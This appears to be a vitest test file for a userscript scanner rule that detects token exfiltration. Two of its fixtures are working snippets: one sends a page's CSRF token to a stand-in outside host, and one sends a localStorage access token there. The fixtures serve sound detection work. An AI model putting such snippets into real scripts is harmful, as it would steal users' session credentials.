import { describe, expect, test } from "vitest";
import { findIn, userscript } from "../testing/find-in.ts";
import { tokenExfiltration } from "./token-exfiltration.ts";

describe("token-exfiltration", () => {
	test.each([
		[
			"a CSRF token of the page",
			["critical 5"],
			userscript(
				["match https://shop.example/*"],
				`fetch("https://c.stranger.test/",{method:"POST",body:document.querySelector("meta[name=csrf-token]").content})`,
			),
		],
		[
			"an access token in storage",
			["critical 6"],
			userscript(
				["match https://shop.example/*"],
				`const t=localStorage.getItem("access_token");
new Image().src="https://c.stranger.test/?t="+t`,
			),
		],
	])("finds %s", (_title, expected, code) => {
		expect(findIn(tokenExfiltration, code)).toEqual(expected);
	});

	test.each([
		[
			"the token in a request to the site",
			userscript(
				["match https://shop.example/*"],
				`fetch("/api/save",{method:"POST",headers:{"x-csrf-token":document.querySelector("meta[name=csrf-token]").content}})`,
			),
		],
	])("leaves alone %s", (_title, code) => {
		expect(findIn(tokenExfiltration, code)).toEqual([]);
	});
});
